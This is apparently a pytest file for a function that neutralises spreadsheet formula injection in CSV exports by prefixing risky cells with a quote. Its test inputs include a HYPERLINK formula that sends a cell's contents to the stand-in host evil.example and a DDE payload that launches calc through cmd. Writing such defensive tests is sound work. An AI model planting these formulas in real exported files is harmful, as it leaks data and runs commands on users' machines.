"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from udipick.domain.csv_cells import csv_cell, csv_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/x?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/x?"&A1,"Click")'),
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-5", "'-5"),  # text that looks like a number is still text (a lot named -5)
        ("LOT=1", "LOT=1"),  # only the first character makes a formula
        ("SY 2502A", "SY 2502A"),
        ("", ""),
        (None, ""),
        (-3, -3),  # numbers stay numbers, so a quantity column still sums
        (12, 12),
        (-1.5, -1.5),
        (dt.date(2027, 6, 30), dt.date(2027, 6, 30)),
    ],
)
def test_a_cell_that_would_be_a_formula_gets_a_leading_quote(value, written):
    assert csv_cell(value) == written


def test_csv_text_defuses_every_cell_and_keeps_crlf_rows():
    text = csv_text(["item", "lot", "quantity"], [["=cmd|' /C calc'!A0", "=1+2", -4], ["SYR-10ML", "A1", 3]])
    assert text == "item,lot,quantity\r\n'=cmd|' /C calc'!A0,'=1+2,-4\r\nSYR-10ML,A1,3\r\n"
    assert list(csv.reader(io.StringIO(text))) == [
        ["item", "lot", "quantity"],
        ["'=cmd|' /C calc'!A0", "'=1+2", "-4"],
        ["SYR-10ML", "A1", "3"],
    ]
